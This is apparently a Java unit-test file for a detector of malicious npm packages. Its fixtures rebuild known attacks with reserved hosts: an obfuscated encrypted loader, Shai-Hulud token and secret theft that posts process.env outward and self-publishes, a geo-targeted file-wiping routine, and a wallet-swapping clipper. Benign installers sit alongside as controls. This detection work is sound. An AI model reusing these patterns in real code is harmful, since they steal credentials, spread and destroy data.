package dev.portcullis.js;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * The techniques of documented npm attacks, rewritten after their public write-ups with reserved hosts and dummy
 * keys, and the benign installers that look like them. The facts are what the rules build on: each test names the
 * facts that make the technique visible, and for benign code the threat signals that must stay absent.
 */
class JsFactsTechniquesTest {

    private static List<String> facts(String path, String source, JsOptions options) {
        return JsFactsTest.facts(path, source, options);
    }

    /** flatmap-stream 0.1.1 (event-stream, 2018): the minified loader appended to index.min.js, and its test/data.js. */
    @Test
    void eventStreamFlatmapStream() {
        String loader = "!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,\"hex\").toString()}"
                + "var n=r(e(\"2e2f746573742f64617461\")),o=t[e(n[3])][e(n[4])];if(!o)return;"
                + "var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));"
                + "var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,\"\"),f.exports(n[1])}catch(r){}}();";
        assertThat(facts("index.min.js", loader, JsOptions.defaults()))
                .contains("dynamic-require e(\"2e2f746573742f64617461\") @1", "encoded-payload hex @1");

        byte[] encrypted = new byte[1400];
        new Random(2018).nextBytes(encrypted);
        String data = "module.exports = [\"" + HexFormat.of().formatHex(encrypted) + "\",\n\"" + HexFormat.of().formatHex(encrypted, 0, 200)
                + "\",\n\"63727970746f\", \"656e76\", \"6e706d5f7061636b6167655f6465736372697074696f6e\", \"616573323536\",\n"
                + "\"6372656174654465636970686572\", \"5f636f6d70696c65\", \"686578\", \"75746638\"];\n";
        List<Fact> dataFacts = JsFacts.extract("test/data.js", data.getBytes(StandardCharsets.UTF_8), JsOptions.defaults()).facts();
        assertThat(dataFacts).extracting(JsFactsTest::format)
                .contains("obfuscation high-entropy @1", "encoded-payload hex @3", "encoded-payload hex @4");
        assertThat(dataFacts).filteredOn(f -> f.kind() == FactKind.ENCODED_PAYLOAD).extracting(Fact::evidence)
                .contains("npm_package_description", "createDecipher", "_compile");
    }

    /** Shai-Hulud (September 2025): token theft with gh and trufflehog, then self-propagation by npm publish. */
    @Test
    void shaiHulud() {
        String bundle = """
                const { execSync } = require('child_process');
                const os = require('os'), fs = require('fs'), path = require('path');
                function githubToken() {
                  try { return execSync('gh auth token', { encoding: 'utf8' }).trim(); } catch { return process.env.GITHUB_TOKEN; }
                }
                const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
                const secrets = execSync('trufflehog filesystem ' + os.homedir() + ' --json', { maxBuffer: 1 << 30 });
                async function propagate(dir) {
                  execSync(`npm version patch --no-git-tag-version && npm publish --access public`, { cwd: dir });
                }
                await fetch('https://api.github.example/user/repos', { method: 'POST',
                  body: JSON.stringify({ name: 'Shai-Hulud', env: process.env }) });
                """;
        assertThat(facts("bundle.js", bundle, JsOptions.defaults())).contains(
                "child-process child_process.execSync @4", "sensitive-path github-token @4", "env-read GITHUB_TOKEN @4",
                "sensitive-path npmrc @6", "sensitive-path secret-scanner @7", "npm-publish npm publish @9",
                "network fetch @11");
    }

    /** node-ipc 10.1.1 (peacenotwar, March 2022): geo-IP lookup, then overwrite files for chosen countries. */
    @Test
    void nodeIpc() {
        String source = """
                import u from "path";
                import a from "fs";
                import o from "https";
                setTimeout(function () {
                  const n = Buffer.from("aHR0cHM6Ly9hcGkuaXBnZW9sb2NhdGlvbi5pby9pcGdlbz9hcGlLZXk9MDAwMDAwMDA=", "base64");
                  o.get(n.toString("utf8"), function (t) {
                    t.on("data", function (t) {
                      const f = Buffer.from("Y291bnRyeV9uYW1l", "base64");
                      const c = Buffer.from("cnVzc2lh", "base64");
                      try {
                        const s = JSON.parse(t.toString("utf8"));
                        if (s[f.toString("utf8")].toLowerCase().includes(c.toString("utf8"))) { h("./"); }
                      } catch (t) {}
                    });
                  });
                }, Math.ceil(Math.random() * 1e3));
                async function h(n = "") {
                  for (const e of a.readdirSync(n)) { a.writeFile(u.join(n, e), Buffer.from("4p2k77iP", "base64"), () => {}); }
                  a.rmSync(n, { recursive: true });
                }
                """;
        assertThat(facts("dao/ssl-geospec.js", source, JsOptions.defaults())).contains(
                "require https @3", "encoded-payload base64 @5", "locale-check geo-ip @5/1", "network https.get @6",
                "fs-write fs.writeFile @18", "fs-destructive fs.rmSync @19");
    }

    /** chalk/debug (September 2025): a browser crypto-clipper hooking fetch and XHR and swapping wallet addresses. */
    @Test
    void chalkDebugClipper() {
        String source = """
                (function () {
                  const originalFetch = window.fetch;
                  window.fetch = async function (...args) { const r = await originalFetch.apply(this, args); return r; };
                  const open = XMLHttpRequest.prototype.open;
                  XMLHttpRequest.prototype.open = function (m, u) { this._u = u; return open.apply(this, arguments); };
                  const patterns = { eth: /\\b0x[a-fA-F0-9]{40}\\b/g, btc: /\\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\\b/g };
                  const targets = ["0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976", "0xa29eeFb3f21Dc8FA8bce065Db4f4354AA683c024"];
                  if (typeof window.ethereum !== 'undefined') { window.ethereum.request({ method: 'eth_accounts' }); }
                })();
                """;
        JsOptions options = new JsOptions(List.of(new StringPattern("eth-address", Pattern.compile("^0x[a-fA-F0-9]{40}$"))),
                JsLimits.defaults());
        assertThat(facts("index.js", source, options)).contains("network fetch @3", "network XMLHttpRequest @4",
                "string-match eth-address @7");
    }

    /** esbuild's install.js: downloads its binary over https and runs it; facts, but no threat signal. */
    @Test
    void esbuildInstallerHasCapabilitiesButNoThreatSignals() {
        String source = """
                var fs = require("fs");
                var os = require("os");
                var path = require("path");
                var zlib = require("zlib");
                var https = require("https");
                var child_process = require("child_process");
                var ESBUILD_BINARY_PATH = process.env.ESBUILD_BINARY_PATH || ESBUILD_BINARY_PATH;
                function fetch(url) {
                  return new Promise((resolve, reject) => {
                    https.get(url, (res) => {
                      if ((res.statusCode === 301 || res.statusCode === 302) && res.headers.location)
                        return fetch(res.headers.location).then(resolve, reject);
                      let chunks = [];
                      res.on("data", (chunk) => chunks.push(chunk));
                      res.on("end", () => resolve(Buffer.concat(chunks)));
                    }).on("error", reject);
                  });
                }
                function installUsingNPM(pkg, subpath, binPath) {
                  const env = { ...process.env, npm_config_global: void 0 };
                  const installDir = path.join(os.tmpdir(), "esbuild-" + Math.random().toString(36).slice(2));
                  fs.writeFileSync(path.join(installDir, "package.json"), "{}");
                  child_process.execSync(`npm install --loglevel=error --prefer-offline --no-audit --progress=false ${pkg}@${version}`,
                    { cwd: installDir, stdio: "pipe", env });
                }
                function validateBinaryVersion(...command) {
                  const stdout = child_process.execFileSync(command.shift(), command, { stdio: "pipe" }).toString().trim();
                }
                """;
        List<String> facts = facts("install.js", source, JsOptions.defaults());
        assertThat(facts).contains("network https.get @10", "child-process child_process.execSync @23",
                "child-process child_process.execFileSync @27", "fs-write fs.writeFileSync @22");
        assertThat(facts).noneMatch(f -> f.startsWith("sensitive-path") || f.startsWith("encoded-payload")
                || f.startsWith("obfuscation") || f.startsWith("env-bulk") || f.startsWith("eval")
                || f.startsWith("network fetch") || f.startsWith("unparsable"));
    }

    /** webpack's runtime requires by number and defines getters: not a dynamic require of anything. */
    @Test
    void webpackRuntimeIsQuiet() {
        String source = """
                /******/ (() => { // webpackBootstrap
                /******/ 	var __webpack_modules__ = ({ 42: ((module) => { module.exports = require("path"); }) });
                /******/ 	function __webpack_require__(moduleId) {
                /******/ 		var cachedModule = __webpack_module_cache__[moduleId];
                /******/ 		var module = __webpack_module_cache__[moduleId] = { exports: {} };
                /******/ 		__webpack_modules__[moduleId](module, module.exports, __webpack_require__);
                /******/ 		return module.exports;
                /******/ 	}
                /******/ 	__webpack_require__.d = (exports, definition) => {};
                /******/ })();
                """;
        assertThat(facts("dist/main.js", source, JsOptions.defaults())).containsExactly("require path @2");
    }
}
